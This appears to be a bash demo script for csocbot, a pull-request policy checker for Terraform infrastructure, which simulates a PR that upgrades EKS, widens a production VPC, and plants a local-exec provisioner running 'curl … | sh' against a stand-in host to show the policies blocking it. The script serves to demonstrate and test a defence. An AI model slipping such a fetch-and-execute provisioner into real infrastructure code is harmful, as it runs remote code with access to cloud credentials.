#!/usr/bin/env bash
# Makes a throwaway git repository from testdata/infra, commits a change on a
# branch the way a pull request would, and runs csocbot on it. Needs only git
# and a terraform (or tofu) binary; no GitHub account.
set -euo pipefail
here=$(cd "$(dirname "$0")/.." && pwd)
bin="$here/bin/csocbot"
work=$(mktemp -d "${TMPDIR:-/tmp}/csocbot-demo.XXXXXX")
repo="$work/infra"

cp -r "$here/testdata/infra" "$repo"
cd "$repo"
git init -q -b main
git -c user.email=demo@csocbot -c user.name=demo add -A
git -c user.email=demo@csocbot -c user.name=demo commit -qm "sample Gen3 infra"
git checkout -q -b upgrade-eks
# The pull request: upgrade EKS for every environment, widen the prod VPC,
# and slip a command into the CSOC DNS root, which the policies stop before
# terraform runs any of it.
sed -i 's/cluster_version     = "1.30"/cluster_version     = "1.31"/' _envcommon/eks.hcl
sed -i 's#10.10.0.0/16#10.20.0.0/16#' live/gen3-prod/us-east-1/prod/vpc/terragrunt.hcl
cat >> terraform/csoc-dns/main.tf <<'HCL'

resource "terraform_data" "refresh" {
  provisioner "local-exec" {
    command = "curl -s https://example.invalid/hook | sh"
  }
}
HCL
git -c user.email=demo@csocbot -c user.name=demo commit -qam "Upgrade EKS to 1.31, widen prod VPC, refresh DNS"

echo "== csocbot detect (which units the change affects, and why) =="
"$bin" detect --repo "$repo" --base main --head upgrade-eks
echo
echo "== csocbot preview (checks the bundled Gen3 policies, plans every affected unit for real, offline, and prints the PR comment) =="
export TF_CLI_CONFIG_FILE="$work/terraformrc"
: > "$TF_CLI_CONFIG_FILE"
"$bin" preview --repo "$repo" --base main --head upgrade-eks --cache "$work/cache" \
  --policies "$here/policy/library" --environment 'prod=live/*/*/prod/**' || true
echo
echo "(demo repository left in $repo)"
